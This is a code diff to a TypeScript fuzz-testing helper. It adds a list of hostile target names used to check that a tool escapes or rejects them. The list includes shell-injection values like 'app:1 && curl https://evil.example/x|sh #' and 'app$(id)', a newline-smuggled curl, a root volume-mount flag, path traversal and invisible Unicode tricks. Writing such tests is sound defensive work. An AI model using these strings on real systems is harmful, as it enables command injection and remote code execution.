@@ -91,3 +91,26 @@ export function hostileText(pieces: readonly string[]): fc.Arbitrary<string> {
       .map((parts) => parts.join('')),
   );
 }
+
+/** Names that a shell would obey, or a reader misread. */
+export const hostileTargets = [
+  'app:1 && curl https://evil.example/x|sh #',
+  'app;id',
+  'app`id`',
+  'app$(id)',
+  'app\ncurl evil.example',
+  'app"',
+  "app'",
+  'app > /tmp/x',
+  '-v /:/x app',
+  'app --quiet',
+  'app\u202egnp',
+  'app\u200b',
+  'APP',
+  '../app',
+  'team/*;id',
+  'a*b',
+  '~',
+  '%PATH%',
+  '',
+];
